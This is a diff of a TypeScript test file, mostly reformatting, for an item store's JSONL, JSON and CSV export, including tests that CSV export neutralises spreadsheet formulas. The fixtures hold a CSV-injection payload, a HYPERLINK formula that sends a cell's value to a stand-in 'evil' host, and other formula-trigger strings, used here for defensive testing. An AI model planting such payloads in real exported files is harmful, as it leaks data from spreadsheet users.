@@ -17,7 +17,13 @@ import { postgresForSuite, type PostgresServer } from '../support/postgres';
 const tricky: Record<string, unknown>[] = [
   { sku: 'A-1', name: 'Plain', price: '10', tags: ['x', 'y'], note: null },
   { sku: 'B-2', name: 'Comma, "quotes" and\nnewline\r\nCRLF', price: '', tags: [], note: 'has, comma' },
-  { sku: 'C-3', name: '日本語 — ünïcödé — 😀 — עברית', price: '  padded  ', tags: ['😀', 'a,b', '"q"', '[not a list]'], note: '=SUM(A1)' },
+  {
+    sku: 'C-3',
+    name: '日本語 — ünïcödé — 😀 — עברית',
+    price: '  padded  ',
+    tags: ['😀', 'a,b', '"q"', '[not a list]'],
+    note: '=SUM(A1)',
+  },
   { sku: 'D-4', name: '[1,2]', price: null, tags: ['line\nbreak'], note: '' },
   // Field added later: earlier rows export it as null.
   { sku: 'E-5', name: 'late field', price: '1', tags: ['t'], note: 'n', added: 'new' },
@@ -39,7 +45,11 @@ function rows(type: string, data: Record<string, unknown>[]): ItemRow[] {
   }));
 }
 
-async function capture(store: ItemStore, format: ExportFormat, opts: { type?: string; meta?: boolean; csvRaw?: boolean } = {}): Promise<string> {
+async function capture(
+  store: ItemStore,
+  format: ExportFormat,
+  opts: { type?: string; meta?: boolean; csvRaw?: boolean } = {},
+): Promise<string> {
   const out = new PassThrough();
   const chunks: Buffer[] = [];
   out.on('data', (c: Buffer) => chunks.push(c));
@@ -53,7 +63,8 @@ async function capture(store: ItemStore, format: ExportFormat, opts: { type?: st
 async function storedRecords(store: ItemStore, type: string): Promise<Record<string, unknown>[]> {
   const fields = await store.fieldNames(type);
   const out: Record<string, unknown>[] = [];
-  for await (const item of store.iterateItems(type)) out.push(Object.fromEntries(fields.map((f) => [f, item.data[f] ?? null])));
+  for await (const item of store.iterateItems(type))
+    out.push(Object.fromEntries(fields.map((f) => [f, item.data[f] ?? null])));
   return out;
 }
 
@@ -84,7 +95,10 @@ function suite(name: string, make: () => Promise<ItemStore>) {
     it('JSONL round-trips every field', async () => {
       const text = await capture(store, 'jsonl', { type: 'product' });
       assert.ok(text.endsWith('\n'));
-      const parsed = text.trimEnd().split('\n').map((l) => JSON.parse(l));
+      const parsed = text
+        .trimEnd()
+        .split('\n')
+        .map((l) => JSON.parse(l));
       assert.deepEqual(parsed, await storedRecords(store, 'product'));
       assert.deepEqual(parsed, original);
       // Field order is the order fields were first stored, whatever the store does with JSON key order.
@@ -117,12 +131,27 @@ function suite(name: string, make: () => Promise<ItemStore>) {
     });
 
     it('exports every type when none is named (JSON/JSONL), and refuses mixed types in one CSV', async () => {
-      const all = (await capture(store, 'jsonl')).trimEnd().split('\n').map((l) => JSON.parse(l));
-      assert.deepEqual(all.map((r) => r._type), ['product', 'product', 'product', 'product', 'product', 'review']);
+      const all = (await capture(store, 'jsonl'))
+        .trimEnd()
+        .split('\n')
+        .map((l) => JSON.parse(l));
+      assert.deepEqual(
+        all.map((r) => r._type),
+        ['product', 'product', 'product', 'product', 'product', 'review'],
+      );
       assert.equal(all[5].text, 'Gut 👍');
-      await assert.rejects(capture(store, 'csv'), /a CSV file holds one item type .* has 2 \(product, review\): choose one/);
-      await assert.rejects(capture(store, 'csv', { type: 'nope' }), /has no items of type 'nope' \(it has: product, review\)/);
-      assert.equal(await capture(store, 'json', { type: 'review' }), '[\n{"sku":"A-1","stars":"5","text":"Gut 👍"}\n]\n');
+      await assert.rejects(
+        capture(store, 'csv'),
+        /a CSV file holds one item type .* has 2 \(product, review\): choose one/,
+      );
+      await assert.rejects(
+        capture(store, 'csv', { type: 'nope' }),
+        /has no items of type 'nope' \(it has: product, review\)/,
+      );
+      assert.equal(
+        await capture(store, 'json', { type: 'review' }),
+        '[\n{"sku":"A-1","stars":"5","text":"Gut 👍"}\n]\n',
+      );
     });
 
     it('streams to a file with backpressure', async () => {
@@ -151,7 +180,10 @@ function suite(name: string, make: () => Promise<ItemStore>) {
           cb(new Error('disk full'));
         },
       });
-      await assert.rejects(exportItems(store, { format: 'jsonl', type: 'product', out: broken }), /export destination (failed: disk full|closed)/);
+      await assert.rejects(
+        exportItems(store, { format: 'jsonl', type: 'product', out: broken }),
+        /export destination (failed: disk full|closed)/,
+      );
     });
   });
 }
@@ -189,7 +221,14 @@ describe('store: CSV export neutralises formulas (issue 35, item 7)', function (
     dir = mkdtempSync(join(tmpdir(), 'cs-export-formula-'));
     store = await openStore(join(dir, 'items.sqlite'));
     const cells = [EVIL, '+1+2', '-2+3', '@SUM(A1:A9)', '\tx', '\r=1', 'safe = text', "'quoted"];
-    await store.writeBatch([], rows('cell', cells.map((v, i) => ({ sku: `F-${i}`, v, n: -5 }))), 'ignore');
+    await store.writeBatch(
+      [],
+      rows(
+        'cell',
+        cells.map((v, i) => ({ sku: `F-${i}`, v, n: -5 })),
+      ),
+      'ignore',
+    );
     await store.close();
     store = await openStore(join(dir, 'items.sqlite'));
   });
@@ -203,15 +242,32 @@ describe('store: CSV export neutralises formulas (issue 35, item 7)', function (
     const lines = text.split('\r\n');
     assert.equal(lines[1], `F-0,"'=HYPERLINK(""http://evil/?x=""&A1,""click"")",-5`);
     const decoded = decodeCsv(text, []).map((r) => r.v);
-    assert.deepEqual(decoded, [`'${EVIL}`, "'+1+2", "'-2+3", "'@SUM(A1:A9)", "'\tx", "'\r=1", 'safe = text', "'quoted"]);
+    assert.deepEqual(decoded, [
+      `'${EVIL}`,
+      "'+1+2",
+      "'-2+3",
+      "'@SUM(A1:A9)",
+      "'\tx",
+      "'\r=1",
+      'safe = text',
+      "'quoted",
+    ]);
   });
 
   it('keeps them raw with csvRaw, and the CLI has --csv-raw', async () => {
     const raw = decodeCsv(await capture(store, 'csv', { type: 'cell', csvRaw: true }), []);
     assert.equal(raw[0]!.v, EVIL);
     const task = join(dir, 't.crawl.yaml');
-    writeFileSync(task, 'name: t\nstart: [http://shop.test/]\nrules: [{ name: page }]\nstore: { url: sqlite:items.sqlite }\n');
-    const cli = (extra: string[]) => execFileSync(process.execPath, [resolve('dist/cli.js'), 'export', task, '--format', 'csv', '--type', 'cell', ...extra], { encoding: 'utf8' });
+    writeFileSync(
+      task,
+      'name: t\nstart: [http://shop.test/]\nrules: [{ name: page }]\nstore: { url: sqlite:items.sqlite }\n',
+    );
+    const cli = (extra: string[]) =>
+      execFileSync(
+        process.execPath,
+        [resolve('dist/cli.js'), 'export', task, '--format', 'csv', '--type', 'cell', ...extra],
+        { encoding: 'utf8' },
+      );
     assert.equal(cli([]).split('\r\n')[1], `F-0,"'=HYPERLINK(""http://evil/?x=""&A1,""click"")",-5`);
     assert.equal(cli(['--csv-raw']).split('\r\n')[1], `F-0,"=HYPERLINK(""http://evil/?x=""&A1,""click"")",-5`);
   });
